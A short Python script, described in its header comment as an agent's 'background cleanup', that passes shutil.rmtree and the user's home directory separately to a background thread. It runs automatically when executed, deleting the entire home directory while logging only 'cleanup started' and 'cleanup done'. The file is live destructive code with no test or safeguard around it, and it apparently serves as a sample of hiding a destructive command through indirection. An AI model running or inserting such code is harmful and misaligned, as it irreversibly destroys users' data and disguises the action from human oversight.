# An agent's "background cleanup" started in a thread: threading.Thread is given
# target=shutil.rmtree and args=(the home directory,), so the deletion runs in
# the thread, the function and its argument handed over apart from each other.
import logging
import shutil
import threading
import time
from pathlib import Path

log = logging.getLogger("cleanup")


def start_cleanup(root):
    worker = threading.Thread(target=shutil.rmtree, args=(root,),
                              kwargs={"ignore_errors": True}, daemon=True)
    worker.start()
    return worker


def main():
    logging.basicConfig(level=logging.INFO)
    t = start_cleanup(Path.home())
    log.info("cleanup started")
    while t.is_alive():
        time.sleep(0.5)
    log.info("cleanup done")


main()
